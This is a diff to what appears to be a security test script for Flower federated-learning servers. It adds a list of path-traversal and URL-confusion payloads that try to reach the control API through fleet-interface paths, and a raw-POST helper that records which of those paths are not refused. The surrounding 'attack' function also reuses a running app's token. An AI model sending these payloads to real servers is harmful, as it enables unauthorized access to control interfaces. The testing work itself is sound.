@@ -8,9 +8,11 @@ also read the token of a running app from its command line, and speak for it. Pr
 JSON; what was refused is missing.
 """
 
+import http.client
 import json
+import ssl
 import sys
-from contextlib import suppress
+from contextlib import closing, suppress
 from pathlib import Path
 
 import psutil
@@ -20,6 +22,17 @@ from flwr.supercore.constant import TASK_TYPE_TO_COMMAND
 from flwr.supercore.control import ControlHttpClient
 from flwr.supercore.interceptors import RuntimeTokenHttpInterceptor, RuntimeVersionHttpInterceptor
 from flwr.supercore.runtime import RuntimeHttpClient
+
+#: The control interface by paths that look like the fleet interface's.
+CROOKED = (
+    "/v1/fleet/../control/list-nodes",
+    "/v1/fleet/%2e%2e/control/list-nodes",
+    "/v1/fleet/..%2fcontrol/list-nodes",
+    "/v1/fleet//../../v1/control/list-nodes",
+    "https://x/v1/control/list-nodes",
+    "/v1/control/list-nodes?/v1/fleet/",
+    "/v1/fleet/;/v1/control/list-nodes",
+)
 
 
 def attack(address: str, certificate: bytes | None) -> dict[str, object]:
@@ -32,6 +45,10 @@ def attack(address: str, certificate: bytes | None) -> dict[str, object]:
             got["nodes, by control"] = len(control.ListNodes(ListNodesRequest()).nodes_info)
         with suppress(Exception):
             got["runs, by control"] = len(control.ListRuns(ListRunsRequest()).run_dict)
+    for path in CROOKED:
+        with suppress(Exception):
+            if (status := posted(address, certificate, path)) not in (403, 404):
+                got[path] = status
     token = ""
     with RuntimeHttpClient.from_server_address(*how, [version]) as runtime, suppress(Exception):
         types = list(TASK_TYPE_TO_COMMAND)
@@ -52,6 +69,18 @@ def attack(address: str, certificate: bytes | None) -> dict[str, object]:
             nodes = runtime.GetNodes(GetNodesRequest()).nodes
             got["nodes, by a running app's token"] = len(nodes)
     return got
+
+
+def posted(address: str, certificate: bytes | None, path: str) -> int:
+    """The status that an empty request to a path is answered with, the path sent as it is."""
+    if certificate is None:
+        connection = http.client.HTTPConnection(address, timeout=30)
+    else:
+        context = ssl.create_default_context(cadata=certificate.decode())
+        connection = http.client.HTTPSConnection(address, timeout=30, context=context)
+    with closing(connection):
+        connection.request("POST", path, headers={"content-type": "application/x-protobuf"})
+        return connection.getresponse().status
 
 
 def tokens() -> list[str]:
